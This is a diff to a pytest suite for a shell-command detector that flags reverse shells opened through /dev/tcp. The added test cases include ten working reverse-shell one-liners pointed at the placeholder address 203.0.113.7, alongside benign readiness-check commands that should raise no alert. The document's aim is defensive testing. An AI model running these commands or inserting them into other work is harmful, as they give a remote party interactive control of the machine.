@@ -155,6 +155,16 @@ def test_dns_a_host_sensor_saw(query, rule):
     "cat </dev/tcp/203.0.113.7/4444 | sh",
     "H=203.0.113.7; bash -i >& /dev/tcp/$H/443 0>&1",
     "zsh -c 'zmodload zsh/net/tcp; ztcp 203.0.113.7 443; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+    "$SHELL -i >& /dev/tcp/203.0.113.7/443 0>&1",
+    "builtin exec bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
+    "exec {fd}<>/dev/tcp/203.0.113.7/443; bash -i <&$fd >&$fd 2>&1",
+    "exec 3<>/dev/tcp/203.0.113.7/443; bash -i </dev/fd/3 >/dev/fd/3",
+    "source <(cat </dev/tcp/203.0.113.7/443)",
+    'eval "$(cat </dev/tcp/203.0.113.7/443)"',
+    "python3 -c 'import pty;pty.spawn(\"/bin/bash\")' <> /dev/tcp/203.0.113.7/443 >&0 2>&0",
+    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | cat > /dev/tcp/203.0.113.7/443 < /tmp/f",
+    'exec 5<>/dev/tcp/203.0.113.7/443; while :; do read -r c <&5; eval "$c" >&5 2>&5; done',
+    "exec 5<>/dev/tcp/203.0.113.7/443\nwhile read line\ndo\n  $line 2>&5 >&5\ndone <&5",
 ])
 def test_shell_wired_to_dev_tcp(command):
     assert "reverse_shell_dev_tcp" in alerts(command)
@@ -168,8 +178,13 @@ def test_shell_wired_to_dev_tcp(command):
     ('(echo >/dev/tcp/db/5432) >/dev/null 2>&1 && echo "db is up"', set()),
     ("exec 3<>/dev/tcp/10.0.0.5/22 && echo open", set()),
     ("zmodload zsh/net/tcp; ztcp localhost 5432 && echo up; ztcp -c", set()),
-    # a socket to an outside host, no shell wired to it
-    ("exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3", {"dev_tcp_socket_opened"}),
+    # descriptors saved and restored around a readiness check, a loop over a list: no socket on them
+    ("exec 3>&1 1>/tmp/log; until (echo > /dev/tcp/localhost/8080) 2>/dev/null; do sleep 1; done; exec 1>&3 3>&-",
+     set()),
+    ("exec 3>&1; until timeout 1 bash -c '</dev/tcp/db/5432'; do sleep 1; done; bash ./migrate.sh >&3 2>&1", set()),
+    ("while read svc; do $svc --check; done < list.txt; timeout 1 bash -c '</dev/tcp/localhost/80'", set()),
+    # a socket to an outside host, no shell wired to it; kept open by the shell: high
+    ("exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3", {"dev_tcp_descriptor_kept"}),
     ("echo hi > /dev/udp/203.0.113.7/53", {"dev_tcp_socket_opened"}),
 ])
 def test_dev_tcp_without_a_shell(command, expected):
